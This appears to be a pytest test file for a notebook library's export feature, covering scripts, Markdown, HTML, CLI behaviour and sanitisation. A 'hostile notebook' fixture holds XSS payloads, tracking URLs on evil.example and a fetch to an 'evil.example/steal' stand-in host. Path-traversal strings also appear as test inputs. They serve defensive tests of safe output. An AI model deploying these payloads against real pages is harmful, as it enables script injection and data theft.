"""Export (issue 14): scripts, Markdown and notebook files through nbconvert's exporters, HTML
as the viewer's own safe offline page; refusals, the command line, hostile notebooks."""

from __future__ import annotations

import base64
import json
import re
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter, MarkdownExporter, ScriptExporter
from nbformat import v4

from nbshelf.errors import NbshelfError, NotebookInvalid
from nbshelf.library import Library
from nbshelf.notebook.export import export_notebook, read_notebook
from nbshelf.render.audit import remote_references
from tests.helpers import make_notebook, run_cli, write_notebook

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082")
PNG_B64 = base64.b64encode(PNG).decode()
R_META = {"kernelspec": {"name": "ir", "display_name": "R", "language": "R"}}
IRKERNEL_META = {**R_META, "language_info": {"name": "R", "file_extension": ".r",
                                             "mimetype": "text/x-r-source"}}
JULIA_META = {"kernelspec": {"name": "julia-1.10", "display_name": "Julia 1.10",
                             "language": "julia"}}
PYTHON_FULL_META = {
    "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
    "language_info": {"name": "python", "file_extension": ".py", "nbconvert_exporter": "python",
                      "mimetype": "text/x-python"},
}
REMOTE = re.compile(r"""(?:src|href|srcset|poster|action|data)\s*=\s*["']?\s*(?:https?:)?//"""
                    r"""|url\(\s*["']?\s*(?:https?:)?//""", re.I)


def pictures_notebook(metadata: dict[str, Any] | None = None) -> nbformat.NotebookNode:
    """A markdown cell with an attachment and a code cell with an image output."""
    nb = make_notebook(title="Pictures", code=["plot()"], metadata=metadata)
    nb.cells.insert(1, v4.new_markdown_cell("A dot: ![dot](attachment:dot.png)",
                                            attachments={"dot.png": {"image/png": PNG_B64}}))
    nb.cells[2].outputs = [v4.new_output("display_data", data={"image/png": PNG_B64,
                                                               "text/plain": "<Figure>"})]
    return nb


@pytest.fixture
def team(library: Library, share: Path) -> Library:
    """The test's library with the share as source "team" (notebooks written before sync)."""
    library.add_source(share, name="team")
    return library


def synced(library: Library) -> Library:
    library.sync()
    return library


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Every way out through sockets fails loudly and is recorded."""
    attempts: list[object] = []

    def refuse(*args: object, **_kwargs: object) -> None:
        attempts.append(args)
        raise OSError("no network during an export")

    for owner, name in ((socket.socket, "connect"), (socket.socket, "connect_ex"),
                        (socket, "create_connection"), (socket, "getaddrinfo")):
        monkeypatch.setattr(owner, name, refuse)
    yield attempts


# -- scripts -------------------------------------------------------------------------------


@pytest.mark.parametrize(("metadata", "name"), [
    (PYTHON_FULL_META, "analysis.py"),
    (R_META, "analysis.R"),             # kernelspec only: the language's usual extension
    (IRKERNEL_META, "analysis.r"),      # IRkernel's language_info says ".r", as nbconvert names it
    (JULIA_META, "analysis.jl"),
    ({"kernelspec": {"name": "x", "display_name": "X", "language": "brainfunk"}}, "analysis.txt"),
])
def test_script_takes_the_languages_extension(team: Library, share: Path, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch,
                                              metadata: dict[str, Any], name: str) -> None:
    write_notebook(share / "sub" / "analysis.ipynb",
                   make_notebook(code=["x <- 1", "y <- x + 1"], metadata=metadata))
    synced(team)
    monkeypatch.chdir(tmp_path)
    done = team.export("team:sub/analysis.ipynb", "script")
    assert done["output"] == str(tmp_path / name) and done["format"] == "script"
    text = (tmp_path / name).read_text()
    assert "x <- 1" in text and "y <- x + 1" in text
    assert done["bytes"] == len(text.encode()) and done["files"] == []


def test_python_script_is_what_nbconvert_writes(team: Library, share: Path,
                                                tmp_path: Path) -> None:
    nb = make_notebook(title="Magic", code=["%matplotlib inline\nimport os", "print(os.sep)"],
                       metadata=PYTHON_FULL_META)
    write_notebook(share / "magic.ipynb", nb)
    synced(team)
    out = tmp_path / "magic.py"
    team.export("team:magic.ipynb", "script", out)
    expected, _ = ScriptExporter().from_notebook_node(nbformat.read(share / "magic.ipynb", 4))
    assert out.read_text() == expected
    assert "run_line_magic('matplotlib', 'inline')" in out.read_text()  # PythonExporter's work


TRIPPED: list[str] = []


class Tripwire:
    """What a notebook's ``nbconvert_exporter`` could make nbconvert import and construct."""

    def __init__(self, **_kwargs: object) -> None:
        TRIPPED.append("constructed")

    def from_notebook_node(self, _nb: object, resources: object = None,
                           **_kw: object) -> tuple[str, object]:
        TRIPPED.append("used")
        return "<html>not a script</html>", resources


@pytest.mark.parametrize("delegate", ["html", "webpdf", f"{__name__}.Tripwire", ["html"]])
def test_a_notebook_cannot_choose_the_script_exporter_or_extension(
        team: Library, share: Path, tmp_path: Path, delegate: object) -> None:
    nb = make_notebook(code=["print('safe')"], metadata={"language_info": {
        "name": "python", "nbconvert_exporter": delegate, "file_extension": ".html"}})
    write_notebook(share / "odd.ipynb", nb)
    synced(team)
    done = team.export("team:odd.ipynb", "script", tmp_path)
    assert Path(done["output"]).name == "odd.py"  # not the notebook's ".html"
    text = Path(done["output"]).read_text()
    assert "print('safe')" in text and "<html" not in text.lower()
    assert TRIPPED == []


@pytest.mark.parametrize("extension", ["../../escape", "/etc/x", ".py/../../x", ".exe", ""])
def test_a_strange_file_extension_is_not_taken(tmp_path: Path, extension: str) -> None:
    nb = make_notebook(metadata={"language_info": {"name": "julia",
                                                   "file_extension": extension}})
    done = export_notebook(nbformat.writes(nb).encode(), "script", name="a/n.ipynb",
                           out=tmp_path)
    assert done["output"] == str(tmp_path / "n.jl")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["n.jl"]


# -- markdown ------------------------------------------------------------------------------


def test_markdown_writes_images_beside_it_as_nbconvert_does(team: Library, share: Path,
                                                            tmp_path: Path) -> None:
    write_notebook(share / "pics.ipynb", pictures_notebook())
    synced(team)
    done = team.export("team:pics.ipynb", "markdown", tmp_path / "out" / "pics.md")
    md = tmp_path / "out" / "pics.md"
    folder = tmp_path / "out" / "pics_files"
    assert done["output"] == str(md) and done["format"] == "markdown"
    assert sorted(done["files"]) == sorted(str(p) for p in folder.iterdir())
    assert {p.name for p in folder.iterdir()} == {"dot.png", "pics_2_0.png"}
    assert all(p.read_bytes() == PNG for p in folder.iterdir())
    text = md.read_text()
    links = re.findall(r"!\[[^\]]*\]\(([^)]+)\)", text)
    assert sorted(links) == ["pics_files/dot.png", "pics_files/pics_2_0.png"]
    assert all((md.parent / link).is_file() for link in links)
    # the same text nbconvert's MarkdownExporter gives, told the same names
    expected, resources = MarkdownExporter().from_notebook_node(
        nbformat.read(share / "pics.ipynb", 4),
        resources={"unique_key": "pics", "output_files_dir": "pics_files"})
    assert text == expected and set(resources["outputs"]) == {
        "pics_files/dot.png", "pics_files/pics_2_0.png"}


def test_markdown_image_links_work_for_names_with_spaces(team: Library, share: Path,
                                                         tmp_path: Path) -> None:
    write_notebook(share / "my report (final).ipynb", pictures_notebook())
    synced(team)
    done = team.export("team:my report (final).ipynb", "markdown", tmp_path)
    md = Path(done["output"])
    assert md.name == "my report (final).md"
    links = re.findall(r"!\[[^\]]*\]\(([^)\s]+)\)", md.read_text())
    assert len(links) == 2 and all((md.parent / link).is_file() for link in links)


def test_markdown_image_names_cannot_leave_their_folder(tmp_path: Path) -> None:
    nb = pictures_notebook()
    nb.cells[2].outputs[0].metadata["filename"] = "../../escaped.png"  # nbconvert takes the base
    out = tmp_path / "out"
    out.mkdir()
    export_notebook(nbformat.writes(nb).encode(), "markdown", name="n.ipynb", out=out)
    assert (out / "n_files" / "escaped.png").read_bytes() == PNG
    assert not (tmp_path / "escaped.png").exists()
    bad = pictures_notebook()
    bad.cells[1].attachments = {"..": {"image/png": PNG_B64}}
    bad.cells[1].source = "![x](attachment:..)"
    with pytest.raises(NbshelfError, match="'.' or '..' part"):
        export_notebook(nbformat.writes(bad).encode(), "markdown", name="m.ipynb", out=out)
    assert not (out / "m.md").exists()


def test_markdown_refuses_an_image_folder_that_leads_elsewhere(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / "n_files").symlink_to(elsewhere)
    with pytest.raises(NbshelfError, match="leads out of"):
        export_notebook(nbformat.writes(pictures_notebook()).encode(), "markdown",
                        name="n.ipynb", out=out, force=True)
    assert list(elsewhere.iterdir()) == [] and not (out / "n.md").exists()


def test_outputs_markdown_cannot_hold_are_left_out_and_said(tmp_path: Path) -> None:
    nb = make_notebook(code=["slider", "print(2)"])
    nb.cells[1].outputs = [v4.new_output("display_data", data={
        "application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2,
                                                     "version_minor": 0}})]
    nb.cells[2].outputs = [v4.new_output("stream", text="2\n")]
    done = export_notebook(nbformat.writes(nb).encode(), "markdown", name="w.ipynb",
                           out=tmp_path)
    assert len(done["warnings"]) == 1 and "widget-view+json" in done["warnings"][0]
    text = Path(done["output"]).read_text()
    assert "slider" in text and "print(2)" in text and "model_id" not in text


# -- html and notebook ---------------------------------------------------------------------


def test_html_is_the_viewers_standalone_page(team: Library, share: Path, tmp_path: Path) -> None:
    write_notebook(share / "pics.ipynb", pictures_notebook())
    synced(team)
    done = team.export("team:pics.ipynb", "html", tmp_path)
    page = Path(done["output"]).read_text()
    assert Path(done["output"]).name == "pics.html" and done["files"] == []
    assert page == team.render("team:pics.ipynb", standalone=True)
    assert page.count("data:image/png;base64,") >= 2  # the attachment and the output, inline
    assert remote_references(page) == []


def test_nbconvert_html_would_reach_out_which_is_why_html_is_the_viewers(
        team: Library, share: Path, tmp_path: Path) -> None:
    """The measurement behind the choice: nbconvert's default template loads require.js and
    MathJax from cdnjs and keeps scripts; the viewer's page loads and runs nothing."""
    nb = make_notebook(markdown=["Euler: $e^{i\\pi} + 1 = 0$"])
    write_notebook(share / "math.ipynb", nb)
    synced(team)
    theirs, _ = HTMLExporter().from_notebook_node(nb)
    assert "cdnjs.cloudflare.com" in theirs and remote_references(theirs)
    ours = Path(team.export("team:math.ipynb", "html", tmp_path)["output"]).read_text()
    assert remote_references(ours) == [] and "<math" in ours
    assert not re.search(r"cdnjs|unpkg|jsdelivr|mathjax", ours, re.I)


def test_notebook_export_upgrades_an_old_notebook(team: Library, share: Path,
                                                  tmp_path: Path) -> None:
    old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "old"}, "worksheets": [{
        "cells": [{"cell_type": "heading", "level": 1, "source": "Old times", "metadata": {}},
                  {"cell_type": "code", "language": "python", "input": "x = 1", "outputs": [],
                   "metadata": {}, "collapsed": False}], "metadata": {}}]}
    (share / "old.ipynb").write_text(json.dumps(old))
    synced(team)
    done = team.export("team:old.ipynb", "notebook", tmp_path)
    new = nbformat.read(done["output"], as_version=nbformat.NO_CONVERT)
    assert (new.nbformat, new.nbformat_minor) == (4, 5)
    nbformat.validate(new)
    assert [c.source for c in new.cells] == ["# Old times", "x = 1"]
    script = team.export("team:old.ipynb", "script", tmp_path)
    assert "x = 1" in Path(script["output"]).read_text()
    md = team.export("team:old.ipynb", "markdown", tmp_path)
    assert "# Old times" in Path(md["output"]).read_text()


def test_cell_ids_nbconvert_would_warn_about_are_repaired() -> None:
    nb = make_notebook(code=["a", "b", "c"])
    nb.cells[1].id = nb.cells[2].id = "same"
    del nb.cells[3]["id"]
    read = read_notebook(json.dumps(nb).encode())
    ids = [c.id for c in read.cells]
    assert len(set(ids)) == len(ids) == 4


# -- writing: where, refusals --------------------------------------------------------------


def test_refuses_to_overwrite_unless_forced(team: Library, share: Path, tmp_path: Path) -> None:
    write_notebook(share / "pics.ipynb", pictures_notebook())
    synced(team)
    md = tmp_path / "pics.md"
    md.write_text("mine")
    with pytest.raises(NbshelfError, match="exists; use --force"):
        team.export("team:pics.ipynb", "markdown", md)
    assert md.read_text() == "mine" and not (tmp_path / "pics_files").exists()
    md.unlink()
    (tmp_path / "pics_files").mkdir()
    (tmp_path / "pics_files" / "dot.png").write_bytes(b"mine")
    with pytest.raises(NbshelfError, match="dot.png exists"):  # an image would be replaced
        team.export("team:pics.ipynb", "markdown", md)
    assert not md.exists()
    done = team.export("team:pics.ipynb", "markdown", md, force=True)
    assert md.is_file() and (tmp_path / "pics_files" / "dot.png").read_bytes() == PNG
    assert len(done["files"]) == 2


def test_never_overwrites_the_notebook_itself(team: Library, share: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_notebook(share / "n.ipynb", make_notebook(title="Original"))
    synced(team)
    before = path.read_bytes()
    monkeypatch.chdir(share)
    with pytest.raises(NbshelfError, match="is the notebook itself"):
        team.export("n.ipynb", "notebook", force=True)
    assert path.read_bytes() == before


def test_unknown_format_and_unwritable_target(team: Library, share: Path,
                                              tmp_path: Path) -> None:
    write_notebook(share / "n.ipynb")
    synced(team)
    with pytest.raises(NbshelfError, match="unknown export format 'pdf'"):
        team.export("team:n.ipynb", "pdf", tmp_path)
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    with pytest.raises(NbshelfError, match="cannot write"):
        team.export("team:n.ipynb", "script", blocker / "sub" / "n.py")


def test_a_notebook_nbconvert_cannot_read_is_a_known_error(tmp_path: Path) -> None:
    bad = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": {"not": "a list"}}
    with pytest.raises(NotebookInvalid, match="cannot be exported"):
        export_notebook(json.dumps(bad).encode(), "markdown", name="n.ipynb", out=tmp_path)
    assert list(tmp_path.iterdir()) == []


_JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=8),
                     lambda kids: st.lists(kids, max_size=3)
                     | st.dictionaries(st.text(max_size=6), kids, max_size=3), max_leaves=8)
_TEXT = st.text(max_size=12)
_MIME = st.sampled_from(["text/plain", "text/html", "text/markdown", "text/latex", "image/png",
                         "image/svg+xml", "application/json", "application/javascript"])
_OUTPUT = st.one_of(
    st.builds(lambda t: {"output_type": "stream", "name": "stdout", "text": t}, _TEXT),
    st.builds(lambda d, kind: {"output_type": kind, "data": d, "metadata": {}},
              st.dictionaries(_MIME, _TEXT, max_size=2),
              st.sampled_from(["display_data", "execute_result"])),
    st.builds(lambda e: {"output_type": "error", "ename": e, "evalue": e, "traceback": [e]},
              _TEXT),
    _JSON)
_CELL = st.fixed_dictionaries(
    {"cell_type": st.sampled_from(["code", "markdown", "raw"])},
    optional={"source": _TEXT | st.lists(_TEXT, max_size=2) | _JSON,
              "metadata": st.just({}) | _JSON, "id": _TEXT | _JSON,
              "outputs": st.lists(_OUTPUT, max_size=2), "execution_count": st.none() | _JSON,
              "attachments": st.just({"a.png": {"image/png": PNG_B64}}) | _JSON}) | _JSON
_NOTEBOOK = st.fixed_dictionaries(
    {"nbformat": st.sampled_from([4, 4, 4, 3, 2, 1, 5]), "cells": st.lists(_CELL, max_size=3)},
    optional={"nbformat_minor": st.integers(0, 6) | _JSON,
              "metadata": st.sampled_from([PYTHON_FULL_META, R_META]) | _JSON})


@settings(max_examples=120, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(_NOTEBOOK, st.sampled_from(["script", "markdown", "notebook"]))
def test_any_notebook_json_exports_or_says_why(tmp_path: Path, raw: dict[str, Any],
                                               to: str) -> None:
    """Notebook JSON comes from outside: nbconvert either writes it or the user reads why;
    no traceback, no warning (warnings are errors here), nothing outside the folder."""
    out = tmp_path / f"case-{len(list(tmp_path.iterdir()))}"
    out.mkdir()
    try:
        done = export_notebook(json.dumps(raw).encode(), to, name="n.ipynb", out=out)
    except NbshelfError as err:
        assert str(err)
        assert list(out.iterdir()) == []
    else:
        assert Path(done["output"]).parent == out


# -- hostile notebooks, network ------------------------------------------------------------


def hostile_notebook() -> nbformat.NotebookNode:
    nb = make_notebook(title="Hostile", markdown=[
        "<script>alert('md')</script> text",
        "<img src=x onerror=\"alert(1)\"> [click](javascript:alert(2))",
        "![remote](https://evil.example/track.png) <img src='http://evil.example/a.png'>",
        "<iframe src='https://evil.example/frame'></iframe>",
        "<div style=\"background: url(https://evil.example/bg.png)\">styled</div>",
        "<style>@import url('https://evil.example/x.css'); body {background: "
        "url(//evil.example/y.png)}</style>",
        "<a href='https://evil.example/link'>a link</a> <svg><script>alert(3)</script></svg>",
        "<object data='https://evil.example/o.swf'></object><embed src='http://evil.example/e'>",
        "<link rel=stylesheet href='https://cdn.jsdelivr.net/x.css'>",
        "$$\\href{javascript:alert(4)}{math}$$",
    ], code=["display(HTML(bad))", "display(JS)"])
    nb.cells[-2].outputs = [v4.new_output("display_data", data={
        "text/html": "<script src='https://unpkg.com/x.js'></script><script>alert(5)</script>"
                     "<img src='https://evil.example/o.png' onerror='alert(6)'>"
                     "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
        "text/plain": "HTML"})]
    nb.cells[-1].outputs = [v4.new_output("display_data", data={
        "application/javascript": "fetch('https://evil.example/steal')",
        "text/plain": "JS"})]
    nb.cells[1].attachments = {"x.svg": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/"
                                         "svg' onload='alert(8)'><script>alert(9)</script>"
                                         "<image href='https://evil.example/i.png'/></svg>"}}
    return nb


def test_a_hostile_notebook_exports_to_html_that_loads_and_runs_nothing(
        team: Library, share: Path, tmp_path: Path) -> None:
    write_notebook(share / "hostile.ipynb", hostile_notebook())
    synced(team)
    done = run_cli(team.root, "export", "team:hostile.ipynb", "--to", "html", "--json",
                   cwd=tmp_path)
    assert done.code == 0, done.stderr
    page = Path(done.json["output"]).read_text()
    lower = page.lower()
    assert remote_references(page) == []
    assert "<script" not in lower and "<iframe" not in lower and "<object" not in lower
    assert not re.search(r"\son\w+\s*=", lower)
    assert not re.search(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", lower)
    assert not REMOTE.search(page)
    assert not re.search(r"(https?:)?//[^\s\"'<>]*(cdnjs|unpkg|jsdelivr|mathjax)", page, re.I)
    assert "a link" in page and "styled" in page  # harmless text kept


def test_no_export_makes_a_network_request(team: Library, share: Path, tmp_path: Path,
                                           no_network: list[object]) -> None:
    write_notebook(share / "hostile.ipynb", hostile_notebook())
    write_notebook(share / "pics.ipynb", pictures_notebook(PYTHON_FULL_META))
    synced(team)
    for to in ("script", "markdown", "html", "notebook"):
        (tmp_path / to).mkdir()
        for name in ("hostile", "pics"):
            team.export(f"team:{name}.ipynb", to, tmp_path / to)
    assert no_network == []


# -- the command line ----------------------------------------------------------------------


def test_cli_export_contract(library_dir: Path, share: Path, tmp_path: Path) -> None:
    write_notebook(share / "deep" / "pics.ipynb", pictures_notebook(R_META))
    assert run_cli(library_dir, "source", "add", str(share), "--name", "team").code == 0
    assert run_cli(library_dir, "sync").code == 0
    work = tmp_path / "work"
    work.mkdir()
    done = run_cli(library_dir, "export", "team:deep/pics.ipynb", "--to", "script", "--json",
                   cwd=work)
    assert done.code == 0, done.stderr
    assert done.json == {"output": str(work / "pics.R"), "format": "script",
                         "bytes": (work / "pics.R").stat().st_size, "files": [],
                         "warnings": []}
    # a path in the source and an id name the notebook too; -o a folder takes the default name
    by_path = run_cli(library_dir, "export", "pics.ipynb", "--to", "markdown", "-o", str(work),
                      "--json", cwd=share / "deep")
    assert by_path.code == 0, by_path.stderr
    assert by_path.json["output"] == str(work / "pics.md") and len(by_path.json["files"]) == 2
    shown = run_cli(library_dir, "show", "team:deep/pics.ipynb", "--json").json
    human = run_cli(library_dir, "export", str(shown["id"]), "--to", "notebook", "-o",
                    str(work / "copy.ipynb"))
    assert human.code == 0 and human.stdout.startswith(f"wrote {work / 'copy.ipynb'}")
    # refusals: exit 1, a plain message, JSON with the error; bad usage exits 2
    again = run_cli(library_dir, "export", "team:deep/pics.ipynb", "--to", "script", "--json",
                    cwd=work)
    assert again.code == 1 and "exists; use --force" in again.json["error"]
    assert "Traceback" not in again.stderr and "use --force" in again.stderr
    forced = run_cli(library_dir, "export", "team:deep/pics.ipynb", "--to", "script",
                     "--force", cwd=work)
    assert forced.code == 0, forced.stderr
    missing = run_cli(library_dir, "export", "team:nope.ipynb", "--to", "html", cwd=work)
    assert missing.code == 1 and "Traceback" not in missing.stderr
    assert run_cli(library_dir, "export", "team:deep/pics.ipynb", "--to", "pdf").code == 2
    assert run_cli(library_dir, "export", "team:deep/pics.ipynb").code == 2


def test_cli_export_reads_while_another_process_writes(library_dir: Path, share: Path,
                                                       tmp_path: Path) -> None:
    write_notebook(share / "n.ipynb")
    with Library.open(library_dir) as lib:
        lib.add_source(share, name="team")
        lib.sync()
        done = run_cli(library_dir, "--wait", "0", "export", "team:n.ipynb", "--to", "html",
                       "-o", str(tmp_path / "n.html"))
    assert done.code == 0, done.stderr
    assert (tmp_path / "n.html").is_file()
